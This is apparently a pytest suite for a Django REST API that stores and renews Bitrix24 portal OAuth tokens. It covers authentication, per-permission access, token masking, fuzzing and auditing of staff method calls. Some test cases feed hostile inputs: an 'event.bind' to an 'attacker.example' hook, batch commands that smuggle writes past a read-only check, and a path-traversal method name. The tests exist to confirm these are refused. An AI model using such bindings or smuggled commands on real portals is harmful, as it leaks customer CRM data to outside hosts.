"""The REST API over real sockets: staff endpoints, the app frontend's endpoints, a schema-driven fuzz run."""

from __future__ import annotations

import json
from collections import Counter
from datetime import timedelta
from typing import Any

import pytest
import requests
import time_machine
from celery.signals import before_task_publish
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from config.celery import app as celery_app
from portals.models import (
    PairState,
    RenewalOutcome,
    RenewalTrigger,
    StaffCall,
    TokenPair,
    WantedAction,
    WantedKind,
)
from tests.factories import PortalFactory, RenewalLogFactory, TokenPairFactory, UserFactory

pytestmark = pytest.mark.django_db(transaction=True)

STAFF_PATHS = [
    ("get", "/api/portals/"),
    ("get", "/api/portals/{member_id}/"),
    ("post", "/api/portals/{member_id}/renew/"),
    ("post", "/api/portals/{member_id}/call/"),
    ("get", "/api/health/"),
    ("get", "/api/schema/"),
]


class Api:
    """The API as a client sees it."""

    def __init__(self, url: str, headers: dict[str, str] | None = None) -> None:
        self.url = url
        self.http = requests.Session()
        self.http.headers.update(headers or {})

    def get(self, path: str, **kwargs: Any) -> requests.Response:
        return self.http.get(self.url + path, timeout=30, allow_redirects=False, **kwargs)

    def post(self, path: str, **kwargs: Any) -> requests.Response:
        return self.http.post(self.url + path, timeout=30, allow_redirects=False, **kwargs)


SUPPORT = ("view_portal", "renew_portal", "call_portal", "call_any_method")


def _grant(user, *codenames: str) -> None:
    from django.contrib.auth.models import Permission

    user.user_permissions.add(
        *Permission.objects.filter(content_type__app_label="portals", codename__in=codenames)
    )


def _api_for(backend, user) -> Api:
    return Api(backend.url, {"Authorization": f"Token {Token.objects.create(user=user).key}"})


@pytest.fixture
def staff(backend, staff_user) -> Api:
    """A support engineer: staff with every permission of the staff API."""
    _grant(staff_user, *SUPPORT)
    return _api_for(backend, staff_user)


def _frame(backend, b24, token: str, member_id: str | None = None) -> Api:
    return Api(backend.url, {"X-Bitrix24-Auth": token, "X-Bitrix24-Member-Id": member_id or b24.member_id})


def _is_error(response: requests.Response, status: int, code: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["Content-Type"].startswith("application/json")
    body = response.json()
    assert set(body) >= {"error", "error_description"} and body["error_description"], body
    if code is not None:
        assert body["error"] == code, body
    return body


# --- staff endpoints refuse everyone else ---------------------------------------------------------------


def test_staff_endpoints_refuse_anonymous_and_non_staff_users(backend, installed_portal):
    plain = Token.objects.create(user=UserFactory(username="employee"))
    anonymous = Api(backend.url)
    employee = Api(backend.url, {"Authorization": f"Token {plain.key}"})
    forged = Api(backend.url, {"Authorization": "Token " + "0" * 40})
    for method, template in STAFF_PATHS:
        path = template.format(member_id=installed_portal.member_id)
        kwargs = {"json": {"method": "profile"}} if method == "post" else {}
        _is_error(getattr(anonymous, method)(path, **kwargs), 401, "not_authenticated")
        _is_error(getattr(forged, method)(path, **kwargs), 401, "authentication_failed")
        _is_error(getattr(employee, method)(path, **kwargs), 403, "permission_denied")
    # Frontend credentials are no way in either, genuine as they are.
    frame = _frame(backend, installed_portal, installed_portal.token_pairs.get().access_token)
    _is_error(frame.get("/api/portals/"), 401)


def test_staff_session_works_and_unsafe_methods_need_the_csrf_token(backend, installed_portal):
    _grant(UserFactory(username="admin", staff=True), *SUPPORT)  # password pw-admin
    browser = requests.Session()
    login = backend.url + "/admin/login/"
    browser.get(login, timeout=10)
    answer = browser.post(
        login,
        data={
            "username": "admin",
            "password": "pw-admin",
            "csrfmiddlewaretoken": browser.cookies["csrftoken"],
        },
        headers={"Referer": login},
        timeout=10,
        allow_redirects=False,
    )
    assert answer.status_code == 302, answer.text
    listing = browser.get(backend.url + "/api/portals/", timeout=10)
    assert listing.status_code == 200 and listing.json()["count"] == 1
    renew = backend.url + f"/api/portals/{installed_portal.member_id}/renew/"
    refused = browser.post(renew, timeout=10)
    _is_error(refused, 403, "permission_denied")
    assert "CSRF" in refused.json()["error_description"]
    # The browsable API is on for people.
    page = browser.get(backend.url + "/api/portals/", headers={"Accept": "text/html"}, timeout=10)
    assert page.status_code == 200 and "<html" in page.text and installed_portal.domain in page.text


# --- the portal list and token health ------------------------------------------------------------------


def test_portal_list_shows_token_health_and_filters(backend, staff, settings):
    settings.BITRIX24_REFRESH_TOKEN_LIFETIME_DAYS = 28
    settings.BITRIX24_RENEW_MARGIN_DAYS = 7
    healthy = TokenPairFactory().portal
    due = TokenPairFactory(issued_days_ago=25).portal
    failing_pair = TokenPairFactory(consecutive_failures=2, last_error="OAuthUnavailable")
    failing = failing_pair.portal
    RenewalLogFactory(
        pair=failing_pair,
        trigger=RenewalTrigger.BEAT,
        outcome=RenewalOutcome.TRANSIENT,
        error="OAuth server error (HTTP 500)",
    )
    gone = PortalFactory(uninstalled=True)  # its tokens went with the uninstall

    everything = staff.get("/api/portals/")
    assert everything.status_code == 200, everything.text
    rows = {row["member_id"]: row for row in everything.json()["results"]}
    assert everything.json()["count"] == 4 and set(rows) == {
        p.member_id for p in (healthy, due, failing, gone)
    }
    fresh = rows[healthy.member_id]["background_pair"]
    assert fresh["state"] == PairState.ACTIVE and fresh["consecutive_failures"] == 0
    assert 27.9 < fresh["refresh_days_left"] <= 28
    assert fresh["access_expires_at"] and fresh["refresh_issued_at"] and fresh["refresh_expires_at"]
    assert 2.9 < rows[due.member_id]["background_pair"]["refresh_days_left"] < 3.1
    assert rows[failing.member_id]["background_pair"]["consecutive_failures"] == 2
    assert rows[failing.member_id]["last_renewal"]["outcome"] == RenewalOutcome.TRANSIENT
    assert rows[gone.member_id]["background_pair"] is None and rows[gone.member_id]["pair_count"] == 0

    def members(query: str) -> set[str]:
        response = staff.get("/api/portals/" + query)
        assert response.status_code == 200, response.text
        return {row["member_id"] for row in response.json()["results"]}

    assert members("?due=1") == {due.member_id}
    assert members("?failing=1") == {failing.member_id}
    assert members("?state=uninstalled") == {gone.member_id}
    assert members("?state=installed&due=true") == {due.member_id}
    assert members("?state=needs_reinstall") == set()
    # A dead pair is failing too.
    TokenPair.objects.filter(portal=healthy).update(state=PairState.DEAD)
    assert members("?failing=1") == {failing.member_id, healthy.member_id}

    bad = _is_error(staff.get("/api/portals/?state=sleeping&due=maybe"), 400, "invalid")
    assert set(bad["fields"]) == {"state", "due"}


def test_portal_list_costs_the_same_queries_for_three_portals_or_thirty(staff_user):
    client = APIClient()
    _grant(staff_user, "view_portal")
    client.force_authenticate(staff_user)

    def add(n: int) -> None:
        for portal in PortalFactory.create_batch(n):
            for user_id in (1, 2):
                pair = TokenPairFactory(portal=portal, user_id=user_id, is_background=user_id == 1)
                RenewalLogFactory(pair=pair, trigger="beat", outcome="renewed")

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            response = client.get("/api/portals/")
        assert response.status_code == 200
        return len(captured)

    add(3)
    queries()  # the user's permissions are read once and kept on the user
    few = queries()
    add(27)
    assert queries() == few <= 3


# --- one portal: masked tokens -----------------------------------------------------------------------


@pytest.mark.system
def test_portal_detail_masks_every_token(backend, b24, installed_portal, staff, renewal_worker):
    employee = b24.issue_tokens(7, admin=False)
    assert backend.launch(b24, employee).status_code == 200
    assert (
        staff.post(f"/api/portals/{b24.member_id}/call/", json={"method": "server.time"}).status_code == 200
    )
    # An hour on, the background pair's access token has expired: a worker renews it while the request
    # waits, and the renewal log gets a row (fingerprints only).
    with time_machine.travel(timezone.now() + timedelta(hours=1, seconds=1)):
        assert (
            staff.post(f"/api/portals/{b24.member_id}/call/", json={"method": "profile"}).status_code == 200
        )
    assert renewal_worker == [installed_portal.token_pairs.get(user_id=1).pk]

    response = staff.get(f"/api/portals/{b24.member_id}/")

    assert response.status_code == 200, response.text
    body = response.json()
    assert [(p["user_id"], p["is_background"]) for p in body["pairs"]] == [(1, True), (7, False)]
    assert body["recent_renewals"][0]["outcome"] == RenewalOutcome.RENEWED
    text = response.text
    secrets = [b24.application_token, employee["access_token"], employee["refresh_token"]]
    for pair in TokenPair.objects.filter(portal=installed_portal):
        secrets += [pair.access_token, pair.refresh_token]
        shown = next(p for p in body["pairs"] if p["user_id"] == pair.user_id)
        assert shown["access_token"].startswith(pair.access_token[:4] + "…")
        assert f"{len(pair.refresh_token)} chars" in shown["refresh_token"]
    for secret in secrets:
        assert secret not in text
        assert secret[4:] not in text
    assert "application_token" not in text
    _is_error(staff.get("/api/portals/no-such-portal/"), 404, "not_found")


def test_the_renewal_log_shows_at_most_twenty_attempts(backend, installed_portal, staff):
    pair = installed_portal.token_pairs.get()
    for _ in range(25):
        RenewalLogFactory(pair=pair, trigger="beat", outcome="skipped")
    body = staff.get(f"/api/portals/{installed_portal.member_id}/").json()
    assert len(body["recent_renewals"]) == 20


# --- actions --------------------------------------------------------------------------------------------


def test_renew_now_answers_202_and_queues_a_forced_renewal_per_pair(backend, b24, installed_portal, staff):
    backend.launch(b24, b24.issue_tokens(7, admin=False))
    published: list[Any] = []

    def record(sender=None, body=None, **kwargs):
        if sender == "portals.tasks.carry_out_task":
            published.append(body[0][0])

    # Strongly referenced: a weak receiver that dies makes Celery's signal swap its receivers list,
    # and the publisher, which kept the old one, stops telling later receivers (see test_admin.py).
    before_task_publish.connect(record, weak=False)
    try:
        response = staff.post(f"/api/portals/{b24.member_id}/renew/")
    finally:
        before_task_publish.disconnect(record)
        celery_app.control.purge()
    assert response.status_code == 202, response.text
    assert response.json() == {"queued": 2}
    pairs = TokenPair.objects.filter(portal=installed_portal).order_by("pk").values_list("pk", flat=True)
    # Recorded first (a lost message is queued again by the sweep), then published: one per pair.
    actions = WantedAction.objects.filter(pk__in=published, done_at=None).order_by("pair_id")
    assert [(a.pair_id, a.kind, a.trigger, a.force) for a in actions] == [
        (pk, WantedKind.RENEW_PAIR, RenewalTrigger.STAFF, True) for pk in pairs
    ]


def test_renew_now_of_a_portal_without_pairs_is_a_conflict(backend, b24, installed_portal, staff):
    TokenPair.objects.filter(portal=installed_portal).delete()
    _is_error(staff.post(f"/api/portals/{b24.member_id}/renew/"), 409, "nothing_to_renew")
    _is_error(staff.get(f"/api/portals/{b24.member_id}/renew/"), 405, "method_not_allowed")


def test_call_runs_a_method_on_the_portal(backend, b24, installed_portal, staff):
    b24.seed("crm.contact", 3)
    response = staff.post(
        f"/api/portals/{b24.member_id}/call/",
        json={"method": "crm.contact.list", "params": {"select": ["ID", "NAME"]}},
    )
    assert response.status_code == 200, response.text
    assert response.json()["method"] == "crm.contact.list"
    assert len(response.json()["result"]) == 3
    assert b24.calls[-1][1] == "crm.contact.list"


def test_a_bitrix24_refusal_is_a_502_not_our_500(backend, b24, installed_portal, staff):
    call = f"/api/portals/{b24.member_id}/call/"
    body = _is_error(staff.post(call, json={"method": "no.such.method"}), 502, "ERROR_METHOD_NOT_FOUND")
    assert "Method not found" in body["error_description"]
    b24.scope = "user"
    _is_error(staff.post(call, json={"method": "crm.contact.list"}), 502, "insufficient_scope")


def test_call_validates_its_input(backend, b24, installed_portal, staff):
    call = f"/api/portals/{b24.member_id}/call/"
    for method in ("", "crm.contact.list?x=1", "../oauth/token", "a" * 101, "profile/", "prof ile"):
        body = _is_error(staff.post(call, json={"method": method}), 400, "invalid")
        assert "method" in body["fields"]
    body = _is_error(staff.post(call, json={"method": "profile", "params": [1, 2]}), 400, "invalid")
    assert "params" in body["fields"]
    _is_error(
        staff.post(call, data="{not json", headers={"Content-Type": "application/json"}), 400, "parse_error"
    )
    _is_error(
        staff.post(call, data="x", headers={"Content-Type": "text/plain"}), 415, "unsupported_media_type"
    )
    assert b24.calls == []


def test_call_on_a_portal_without_usable_tokens_is_a_conflict(backend, b24, installed_portal, staff):
    TokenPair.objects.filter(portal=installed_portal).update(state=PairState.DEAD)
    _is_error(
        staff.post(f"/api/portals/{b24.member_id}/call/", json={"method": "profile"}), 409, "no_usable_pair"
    )


def test_health_counts_portals_and_failing_pairs(backend, b24, installed_portal, staff):
    TokenPair.objects.filter(portal=installed_portal).update(consecutive_failures=1)
    response = staff.get("/api/health/")
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["status"] == "ok" and body["database"] == connection.vendor
    assert body["portals"] == {"installed": 1, "pending": 0, "needs_reinstall": 0, "uninstalled": 0}
    assert body["pairs"] == {"total": 1, "failing": 1, "due": 0}
    assert body["background"]["failing"] == 1


def test_unknown_api_paths_answer_json(backend, staff):
    _is_error(staff.get("/api/nothing-here/"), 404, "not_found")
    body = _is_error(staff.get("/api/portals"), 404, "not_found")
    assert "/api/portals/" in body["error_description"]
    _is_error(Api(backend.url).get("/api/nothing-here/"), 404, "not_found")


# --- the app's frontend ---------------------------------------------------------------------------------


def test_frontend_me_answers_for_the_verified_portal_and_user(backend, b24, installed_portal, standin):
    employee = b24.issue_tokens(7, admin=False)
    backend.launch(b24, employee)
    frame = _frame(backend, b24, employee["access_token"])
    before = standin.stats["app_info"]

    first = frame.get("/api/app/me/")
    again = frame.get("/api/app/me/")

    assert first.status_code == 200, first.text
    assert first.json() == {"member_id": b24.member_id, "domain": b24.domain, "user_id": 7, "app_status": "F"}
    assert again.json() == first.json()
    # The launch verified this very token a moment ago: one path, one cache, no second app.info.
    assert standin.stats["app_info"] == before


def test_frontend_refuses_a_forged_auth_id(backend, b24, installed_portal, standin):
    before = standin.stats["app_info"]
    for _ in range(2):
        _is_error(_frame(backend, b24, "f" * 32).get("/api/app/me/"), 401, "invalid_token")
    assert standin.stats["app_info"] == before + 1  # refusals are remembered for a while too
    response = _frame(backend, b24, "f" * 32).get("/api/app/me/")
    assert response.headers["WWW-Authenticate"].startswith("Bitrix24")


def test_frontend_refuses_a_genuine_token_of_another_portal(backend, b24, installed_portal, standin):
    other = standin.add_portal()
    theirs = other.issue_tokens(1, admin=True)["access_token"]
    for _ in range(2):  # also once it is cached
        _is_error(_frame(backend, b24, theirs).get("/api/app/me/"), 403, "wrong_portal")
        _is_error(_frame(backend, b24, theirs).get("/api/app/profile/"), 403, "wrong_portal")


def test_frontend_refuses_missing_malformed_and_unknown_portals(backend, b24, installed_portal, standin):
    token = b24.issue_tokens(7, admin=False)["access_token"]
    before = standin.stats["app_info"]
    _is_error(Api(backend.url).get("/api/app/me/"), 401, "not_authenticated")
    _is_error(Api(backend.url, {"X-Bitrix24-Auth": token}).get("/api/app/me/"), 401, "incomplete_credentials")
    _is_error(_frame(backend, b24, "short").get("/api/app/me/"), 401, "malformed_credentials")
    _is_error(
        _frame(backend, b24, token, member_id="x" * 65).get("/api/app/me/"), 401, "malformed_credentials"
    )
    # A portal we do not serve looks like a forged token: anonymous callers learn no member_ids.
    unknown = _is_error(
        _frame(backend, b24, token, member_id="0" * 32).get("/api/app/me/"), 401, "invalid_token"
    )
    forged = _is_error(_frame(backend, b24, "f" * 32).get("/api/app/me/"), 401, "invalid_token")
    assert unknown == forged
    assert standin.stats["app_info"] == before + 1  # only the forged token of a known portal was asked about


def test_frontend_access_ends_with_the_uninstall_even_when_cached(
    backend, b24, installed_portal, wanted_worker
):
    from standin import payloads as bx

    token = b24.issue_tokens(7, admin=False)["access_token"]
    frame = _frame(backend, b24, token)
    assert frame.get("/api/app/me/").status_code == 200
    b24.uninstall()
    assert backend.post("/events/", data=bx.onappuninstall(b24)).status_code == 200
    assert wanted_worker() == ["done (confirmed by Bitrix24)"]
    _is_error(frame.get("/api/app/me/"), 401, "invalid_token")


def test_frontend_oauth_server_down_is_a_503(backend, b24, installed_portal, standin):
    standin.oauth_mode = "500"
    _is_error(_frame(backend, b24, b24.issue_tokens(7)["access_token"]).get("/api/app/me/"), 503)


def test_frontend_profile_uses_the_users_own_pair(backend, b24, installed_portal):
    employee = b24.issue_tokens(7, admin=False)
    backend.launch(b24, employee)
    response = _frame(backend, b24, employee["access_token"]).get("/api/app/profile/")
    assert response.status_code == 200, response.text
    assert response.json()["profile"]["ID"] == "7"
    assert response.json()["profile"]["ADMIN"] is False
    # A user who never opened the app has no stored pair to act with.
    stranger = b24.issue_tokens(9, admin=False)["access_token"]
    _is_error(_frame(backend, b24, stranger).get("/api/app/profile/"), 409, "no_usable_pair")


def test_frontend_endpoints_do_not_take_staff_credentials(backend, staff):
    _is_error(staff.get("/api/app/me/"), 401, "not_authenticated")


# --- OpenAPI and the fuzz run --------------------------------------------------------------------------


def test_openapi_schema_documents_every_endpoint(backend, staff):
    response = staff.get("/api/schema/?format=json")
    assert response.status_code == 200, response.text
    schema = json.loads(response.text)
    assert set(schema["paths"]) == {
        "/api/portals/",
        "/api/portals/{member_id}/",
        "/api/portals/{member_id}/renew/",
        "/api/portals/{member_id}/call/",
        "/api/health/",
        "/api/app/me/",
        "/api/app/profile/",
        "/api/app/example/deals/{deal_id}/",  # the example app's frontend endpoint (api.frontend)
    }
    schemes = schema["components"]["securitySchemes"]
    assert {"bitrix24Auth", "bitrix24MemberId", "tokenAuth", "cookieAuth"} <= set(schemes)
    assert schema["paths"]["/api/app/me/"]["get"]["security"] == [
        {"bitrix24Auth": [], "bitrix24MemberId": []}
    ]


UPSTREAM_OPERATIONS = (
    "POST /api/portals/{member_id}/call/",
    "GET /api/app/profile/",
    "GET /api/app/me/",
    "GET /api/app/example/deals/{deal_id}/",
)


def _fuzz(
    schema_url: str, base_url: str, headers: dict[str, str], *, staff: dict[str, str], fixed: dict[str, str]
) -> dict[str, Any]:
    """Every operation of the schema, positive and negative examples, with the real portal's member_id in
    the path and with generated ones; schemathesis's checks on every answer. Returns the figures."""
    import schemathesis
    from hypothesis import HealthCheck, Phase, given
    from hypothesis import settings as hypothesis_settings
    from schemathesis import GenerationMode
    from schemathesis.checks import not_a_server_error
    from schemathesis.specs.openapi.checks import content_type_conformance, response_schema_conformance

    # 5xx is a bug of ours, except where the schema documents 502/503 as Bitrix24 refusing or failing a
    # call made for the caller (the support call, the user's profile): those may answer them by design.
    config = schemathesis.Config.from_dict(
        {
            "operations": [
                {
                    "include-name": list(UPSTREAM_OPERATIONS),
                    "checks": {
                        "not_a_server_error": {"expected-statuses": ["2xx", "3xx", "4xx", "502", "503"]}
                    },
                }
            ]
        }
    )
    schema = schemathesis.openapi.from_url(schema_url, config=config, headers=staff, timeout=30)
    session = requests.Session()
    statuses: Counter[int] = Counter()
    per_operation: Counter[str] = Counter()
    upstream: Counter[str] = Counter()
    checks = [not_a_server_error, response_schema_conformance, content_type_conformance]

    def runner(label: str, strategy: Any, examples: int) -> Any:
        @hypothesis_settings(
            max_examples=examples,
            deadline=None,
            database=None,
            derandomize=True,
            phases=[Phase.generate, Phase.shrink],
            suppress_health_check=list(HealthCheck),
        )
        @given(case=strategy)
        def run(case: Any) -> None:
            response = case.call(base_url=base_url, session=session, headers=headers, timeout=60)
            statuses[response.status_code] += 1
            if response.status_code >= 500:
                upstream[f"{label} {response.status_code} {response.json()['error']}"] += 1
            per_operation[label] += 1
            case.validate_response(response, checks=checks, headers=headers)

        return run

    operations = 0
    for result in schema.get_all_operations():
        operation = result.ok()
        operations += 1
        variants = [fixed, None] if "{member_id}" in operation.path else [None]
        modes = [GenerationMode.POSITIVE]
        if len(operation.query) or len(operation.body):
            # Any string is a valid member_id: only a query or a body can be made invalid.
            modes.append(GenerationMode.NEGATIVE)
        for mode in modes:
            for path_parameters in variants:
                strategy = operation.as_strategy(generation_mode=mode, path_parameters=path_parameters)
                runner(operation.label, strategy, 30 if path_parameters or len(variants) == 1 else 10)()
    return {
        "operations": operations,
        "calls": sum(statuses.values()),
        "statuses": statuses,
        "per": per_operation,
        "upstream": upstream,
    }


@pytest.mark.system
def test_schema_driven_fuzz_finds_no_server_error(backend, b24, installed_portal, staff, capsys):
    b24.seed("crm.contact", 5)
    employee = b24.issue_tokens(7, admin=False)
    backend.launch(b24, employee)
    schema_url = backend.url + "/api/schema/?format=json"
    fixed = {"member_id": b24.member_id}
    try:
        staff_headers = {"Authorization": staff.http.headers["Authorization"]}
        as_staff = _fuzz(schema_url, backend.url, staff_headers, staff=staff_headers, fixed=fixed)
        frame_headers = {"X-Bitrix24-Auth": employee["access_token"], "X-Bitrix24-Member-Id": b24.member_id}
        as_frontend = _fuzz(schema_url, backend.url, frame_headers, staff=staff_headers, fixed=fixed)
    finally:
        celery_app.control.purge()  # the renewals the fuzzer queued
    with capsys.disabled():
        for name, figures in (("staff", as_staff), ("frontend", as_frontend)):
            print(
                f"\nfuzz as {name}: {figures['operations']} operations, {figures['calls']} calls, "
                f"statuses {dict(sorted(figures['statuses'].items()))}; "
                f"per operation {dict(figures['per'])}; 5xx: {dict(figures['upstream'])}"
            )
    for figures in (as_staff, as_frontend):
        assert figures["operations"] == 8
        assert figures["calls"] > 7 * 30
        assert all(figures["per"][label] > 0 for label in figures["per"]) and len(figures["per"]) == 8
        # The only 5xx are Bitrix24's refusals of fuzzed method names, answered as documented.
        assert all(key.startswith(UPSTREAM_OPERATIONS[0] + " 502 ") for key in figures["upstream"])
    assert as_staff["statuses"][200] > 0 and as_frontend["statuses"][200] > 0
    # Frontend credentials open the frontend endpoints and nothing else.
    assert as_frontend["statuses"][401] > 0


# --- staff by permission -----------------------------------------------------------------------------


def test_staff_without_permissions_are_refused_everything(backend, installed_portal, staff_user):
    """Being staff lets a user into the admin; what they may do there and here is what they were granted."""
    nobody = _api_for(backend, staff_user)
    member = installed_portal.member_id
    for answer in (
        nobody.get("/api/portals/"),
        nobody.get(f"/api/portals/{member}/"),
        nobody.get("/api/health/"),
        nobody.post(f"/api/portals/{member}/renew/"),
        nobody.post(f"/api/portals/{member}/call/", json={"method": "profile"}),
    ):
        _is_error(answer, 403, "permission_denied")
    assert not WantedAction.objects.exists() and not StaffCall.objects.exists()


def test_view_renew_and_call_are_separate_permissions(backend, installed_portal, b24):
    member = installed_portal.member_id
    viewer, renewer, caller = (UserFactory(staff=True) for _ in range(3))
    _grant(viewer, "view_portal")
    _grant(renewer, "renew_portal")
    _grant(caller, "call_portal")
    viewer_api, renewer_api, caller_api = (_api_for(backend, user) for user in (viewer, renewer, caller))

    assert viewer_api.get(f"/api/portals/{member}/").status_code == 200
    _is_error(viewer_api.post(f"/api/portals/{member}/renew/"), 403, "permission_denied")
    _is_error(viewer_api.post(f"/api/portals/{member}/call/", json={"method": "profile"}), 403)

    assert renewer_api.post(f"/api/portals/{member}/renew/").status_code == 202
    _is_error(renewer_api.get("/api/portals/"), 403, "permission_denied")

    assert caller_api.post(f"/api/portals/{member}/call/", json={"method": "profile"}).status_code == 200
    _is_error(caller_api.post(f"/api/portals/{member}/renew/"), 403, "permission_denied")


@pytest.mark.parametrize(
    "method, params",
    [
        ("event.bind", {"event": "ONCRMDEALADD", "handler": "https://attacker.example/hook"}),
        ("crm.deal.add", {"fields": {"TITLE": "x"}}),
        ("CRM.DEAL.DELETE", {"id": 1}),
        (
            "batch",
            {"cmd": {"a": "crm.deal.list", "b": "event.bind?event=ONCRMDEALADD&handler=https://x.example/"}},
        ),
        ("batch", {"cmd": ["crm.deal.get?id=1", "crm.deal.update?id=1&fields[TITLE]=x"]}),
        ("batch", {"cmd": "crm.deal.list"}),
    ],
)
def test_call_lets_through_read_methods_only_unless_the_user_may_call_any(
    backend, installed_portal, b24, method, params
):
    """Before, any staff user could bind the portal's events to an outside URL with its background pair."""
    member = installed_portal.member_id
    caller, trusted = UserFactory(staff=True), UserFactory(staff=True)
    _grant(caller, "call_portal")
    _grant(trusted, "call_portal", "call_any_method")
    b24.seed("crm.deal", 1)
    bound = len(b24.events)

    refused = _is_error(
        _api_for(backend, caller).post(
            f"/api/portals/{member}/call/", json={"method": method, "params": params}
        ),
        403,
        "method_not_allowed",
    )
    assert "needs the permission to call any method" in refused["error_description"]
    assert len(b24.events) == bound and not [c for c in b24.calls if c[1].lower() == method.lower()]

    allowed = _api_for(backend, trusted).post(
        f"/api/portals/{member}/call/", json={"method": method, "params": params}
    )
    assert allowed.status_code != 403, allowed.text  # Bitrix24's own answer, whatever it is
    audit = list(StaffCall.objects.order_by("pk").values_list("username", "method", "allowed"))
    assert audit == [(caller.username, method, False), (trusted.username, method, True)]


@pytest.mark.parametrize(
    "method, params",
    [
        ("crm.deal.list", {}),
        ("CRM.DEAL.GET", {"id": 1}),
        ("event.get", {}),
        ("profile", {}),
        ("app.info", {}),
        ("batch", {"cmd": {"deals": "crm.deal.list", "me": "profile", "one": "crm.deal.get?id=1"}}),
    ],
)
def test_read_methods_pass_and_every_call_is_audited(backend, installed_portal, b24, method, params):
    caller = UserFactory(staff=True)
    _grant(caller, "call_portal")
    b24.seed("crm.deal", 1)
    answer = _api_for(backend, caller).post(
        f"/api/portals/{installed_portal.member_id}/call/", json={"method": method, "params": params}
    )
    assert answer.status_code == 200, answer.text
    call = StaffCall.objects.get()
    assert (call.user, call.portal_id, call.method, call.allowed) == (
        caller,
        installed_portal.pk,
        method,
        True,
    )
    if method == "batch":
        assert call.commands == "crm.deal.list,profile,crm.deal.get"


def test_which_methods_are_read_methods():
    from portals.operations import batch_commands, is_read_method

    reads = ["crm.deal.fields", "CRM.Deal.List", "user.get", "profile", "APP.INFO", " crm.deal.get "]
    writes = ["crm.deal.add", "event.bind", "batch", "crm.deal.get/../delete", "placement.bind", "", "getter"]
    assert [is_read_method(m) for m in reads] == [True] * len(reads)
    assert [is_read_method(m) for m in writes] == [False] * len(writes)
    assert batch_commands({"cmd": {"a": "crm.deal.get?id=1", "b": "profile"}}) == ["crm.deal.get", "profile"]
    assert batch_commands({"cmd": [{"method": "x"}]}) is None
    assert batch_commands({"cmd": "crm.deal.list"}) is None
